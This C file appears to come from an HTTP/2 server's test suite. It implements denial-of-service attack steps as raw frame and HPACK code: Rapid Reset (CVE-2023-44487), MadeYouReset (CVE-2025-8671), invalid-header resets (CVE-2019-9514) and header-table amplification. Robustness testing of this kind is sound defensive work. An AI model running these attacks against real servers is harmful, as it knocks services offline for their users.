/*
 * attack/requests.c - requests: reset, refused, malformed, or valid and expensive.
 */
#include "tests/helpers/attack/attack.h"
#include "tests/helpers/attack/units.h"

static bool step_get(struct peer *peer) {
  if (peer->in_flight >= 100) return false;
  peer_put_request(peer, false, peer->options->path, true);
  return true;
}

/* variant 0: at once; 1: 100 requests, then 100 resets; 2: a reset 1 ms later; 3: the reset first
 * in the next segment. */
static bool step_rapid_reset(struct peer *peer) {
  if (peer->options->variant == 1) {
    for (uint32_t i = 0; i < 100; i++)
      peer_put_request(peer, false, peer->options->path, true);
    for (uint32_t i = 100; i > 0; i--)
      peer_put_number(peer, RST_STREAM, peer->next_id - 2 * i, 8);
    return true;
  }
  if (peer->options->variant >= 2) {
    if (peer->made > 0 || !units_wait_for(peer, peer->options->variant == 2 ? 1 : 0)) return false;
    if (peer->next_id > 1) peer_put_number(peer, RST_STREAM, peer->next_id - 2, 8);
    peer_put_request(peer, false, peer->options->path, true);
    return true;
  }
  const uint32_t id = peer_put_request(peer, false, peer->options->path, true);
  peer_put_number(peer, RST_STREAM, id, 8);
  return true;
}

/* HEADERS that depend on their own stream, or that are followed by a frame that must not follow:
 * variants 6 and up. */
static void put_unfinished(struct peer *peer, unsigned variant) {
  static const uint8_t block[] = {0x83, 0x86, 0x04, 5,    '/',  's', 'i', 'n', 'k',
                                  0x01, 1,    'a',  0x0f, 0x0d, 1,   '5'}; /* content-length: 5 */
  const size_t len = variant <= 7 ? sizeof block : sizeof block - 4;
  const uint32_t id = peer->next_id;
  peer->next_id += 2;
  peer_put_frame(peer, HEADERS, END_HEADERS, id, block, len);
  switch (variant) {
  case 6: peer_put_frame(peer, DATA, 0, id, "123456", 6); break;                /* more than that */
  case 7: peer_put_frame(peer, DATA, END_STREAM, id, "1234", 4); break;         /* less */
  case 8: peer_put_frame(peer, HEADERS, END_HEADERS, id, "\0\1a\1b", 5); break; /* no END_STREAM */
  default: peer_put_frame(peer, HEADERS, END_HEADERS | END_STREAM, id, "\x82", 1); /* :method */
  }
}

/* The six ways to make a server reset a stream (CVE-2025-8671), and four more. */
static bool step_made_reset(struct peer *peer) {
  static const uint8_t zeros[8];
  if (peer->options->variant >= 6) {
    put_unfinished(peer, peer->options->variant);
    return true;
  }
  const uint32_t id = peer_put_request(peer, false, SLOW_PATH, true);
  const uint8_t itself[5] = {(uint8_t)(id >> 24), (uint8_t)(id >> 16), (uint8_t)(id >> 8),
                             (uint8_t)id, 0};
  switch (peer->options->variant) {
  case 0: peer_put_number(peer, WINDOW_UPDATE, id, 0); break;
  case 1: peer_put_number(peer, WINDOW_UPDATE, id, WIDE); break;
  case 2: peer_put_frame(peer, PRIORITY, 0, id, zeros, 4); break;
  case 3: peer_put_frame(peer, PRIORITY, 0, id, itself, 5); break;
  case 4:
    peer->next_id = id;
    peer_put_request(peer, false, SLOW_PATH, true);
    break;
  default: peer_put_frame(peer, DATA, 0, id, zeros, 8); break;
  }
  return true;
}

/* A request without :path. Each one causes RST_STREAM. */
static bool step_invalid(struct peer *peer) {
  static const uint8_t block[] = {0x82, 0x86, 0x01, 1, 'a'};
  peer_put_frame(peer, HEADERS, END_HEADERS | END_STREAM, peer->next_id, block, sizeof block);
  peer->next_id += 2;
  return true;
}

static bool step_over_limit(struct peer *peer) {
  peer_put_request(peer, false, SLOW_PATH, true);
  return true;
}

/* The place where the response is cut off. It changes each time and takes all values up to
 * `variant` bytes: the multiplier is odd, so it goes through all residues of a power of two. */
static uint64_t reset_point(const struct peer *peer) {
  return peer->units * UINT64_C(7919) % (peer->options->variant + 1);
}

/* A request, and RST_STREAM after that many bytes of its response. */
static bool step_reset_at(struct peer *peer) {
  if (peer->phase == 0) {
    peer_put_request(peer, false, peer->options->path, true);
    peer->phase = 1;
  }
  if (peer->received < reset_point(peer)) return false;
  peer_put_number(peer, RST_STREAM, peer->next_id - 2, 8);
  peer->phase = 0;
  return true;
}

/* A cheap request that is completed, then one that is reset: the first earns what the second costs. */
static bool step_reset_half(struct peer *peer) {
  if (peer->in_flight >= 50) return false;
  peer_put_request(peer, false, "/plaintext", true);
  const uint32_t id = peer_put_request(peer, false, peer->options->path, true);
  peer_put_number(peer, RST_STREAM, id, 8);
  peer->in_flight--;
  return true;
}

static void put_indexed(struct peer *peer, const uint8_t *start, size_t start_len,
                        size_t references) {
  peer_put_head(peer, start_len + references, HEADERS, END_HEADERS | END_STREAM, peer->next_id);
  peer_put(peer, start, start_len);
  peer_put_zeros(peer, 0xbe, references);
  peer->next_id += 2;
  peer->in_flight++;
}

/* The first request: `head` and `value_len` octets as its literal's value. */
static void put_entry(struct peer *peer, const uint8_t *head, size_t head_len, size_t value_len) {
  static const uint8_t start[] = {0x82, 0x86, 0x04, 1, '/', 0x01, 1, 'a'};
  const size_t rest = value_len - 127;
  const uint8_t length[] = {0x7f, (uint8_t)(0x80 | (rest & 0x7f)), (uint8_t)(rest >> 7)};
  peer_put_head(peer, sizeof start + head_len + sizeof length + value_len, HEADERS,
                END_HEADERS | END_STREAM, peer->next_id);
  peer_put(peer, start, sizeof start);
  peer_put(peer, head, head_len);
  peer_put(peer, length, sizeof length);
  peer_put_zeros(peer, 'v', value_len);
  peer->next_id += 2;
  peer->in_flight++;
}

/* Valid requests of 64 KB, made from 150 octets: references to one entry of the header table.
 * variant 0: a field of 470 octets, 120 times; 1: the same as cookie crumbs, to be joined; 2:
 * more fields than allowed, all tiny, for 431. */
static bool step_amplify(struct peer *peer) {
  static const uint8_t start[] = {0x82, 0x86, 0x04, 1, '/', 0x01, 1, 'a'};
  static const uint8_t field[] = {0x40, 1, 'a'}, crumb[] = {0x60}, empty[] = {0x40, 1, 'a'};
  if (peer->in_flight >= 100) return false;
  if (peer->next_id > 1) {
    put_indexed(peer, start, sizeof start, peer->options->variant == 2 ? 720 : 120);
    return true;
  }
  switch (peer->options->variant) {
  case 0: put_entry(peer, field, sizeof field, 470); break;
  case 1: put_entry(peer, crumb, sizeof crumb, 470); break;
  default: put_entry(peer, empty, sizeof empty, 127);
  }
  return true;
}

/* Requests of `variant` cookie crumbs each, with a number in five octal digits: a block that comes again is not decoded
 * again. */
static bool step_crumbs(struct peer *peer) {
  uint8_t start[] = {0x82, 0x86, 0x04, 1, '/', 0x01, 1, 'a',  0x00, 1,
                     'n',  5,    0,    0, 0,   0,    0, 0x60, 1,    'c'};
  if (peer->in_flight >= 100) return false;
  for (int i = 0; i < 5; i++)
    start[12 + i] = (uint8_t)('0' + (peer->units >> 3 * i & 7));
  put_indexed(peer, start, peer->next_id == 1 ? sizeof start : sizeof start - 3,
              peer->options->variant);
  return true;
}

/* A target of 3,900 octets by a reference of one octet. variant 1: made of directories. */
static bool step_long_path(struct peer *peer) {
  static const uint8_t start[] = {0x82, 0x86, 0x01, 1, 'a'},
                       head[] = {0x82, 0x86, 0x01, 1, 'a', 0x44};
  if (peer->in_flight >= 100) return false;
  if (peer->next_id > 1) {
    put_indexed(peer, start, sizeof start, 1);
    return true;
  }
  const size_t len = 3900, rest = len - 127;
  const uint8_t length[] = {0x7f, (uint8_t)(0x80 | (rest & 0x7f)), (uint8_t)(rest >> 7)};
  peer_put_head(peer, sizeof head + sizeof length + len, HEADERS, END_HEADERS | END_STREAM, 1);
  peer_put(peer, head, sizeof head);
  peer_put(peer, length, sizeof length);
  for (size_t i = 0; i < len / 2; i++)
    peer_put(peer, peer->options->variant ? "/a" : i ? "%a" : "/a", 2);
  peer->next_id += 2;
  peer->in_flight++;
  return true;
}

/* A new path in each request. */
static bool step_new_paths(struct peer *peer) {
  char path[32] = "/no-000000000000";
  uint64_t number = peer->units * peer->options->connections + (uint64_t)peer->fd;
  if (peer->in_flight >= 100) return false;
  for (char *at = path + 15; number > 0; number /= 10)
    *at-- = (char)('0' + number % 10);
  peer_put_request(peer, false, path, true);
  return true;
}

static const struct attack attacks[] = {
    {"get", "requests, all valid, 100 in flight", step_get, units_begin_wide, false},
    {"rapid-reset", "CVE-2023-44487", step_rapid_reset, NULL, false},
    {"made-reset", "CVE-2025-8671", step_made_reset, NULL, false},
    {"invalid", "CVE-2019-9514", step_invalid, NULL, false},
    {"over-limit", "more streams than allowed", step_over_limit, NULL, false},
    {"reset-at", "CVE-2023-44487, in the middle of responses", step_reset_at, units_begin_wide,
     false},
    {"reset-half", "every second request is reset", step_reset_half, units_begin_wide, false},
    {"amplify", "valid requests of 64 KB, by reference", step_amplify, units_begin_wide, false},
    {"crumbs", "cookies in many pieces", step_crumbs, units_begin_wide, false},
    {"long-path", "targets of 4 KB, by reference", step_long_path, units_begin_wide, false},
    {"new-paths", "a new path in each request", step_new_paths, units_begin_wide, false},
};

const struct attack_list attack_requests = ATTACK_LIST(attacks);
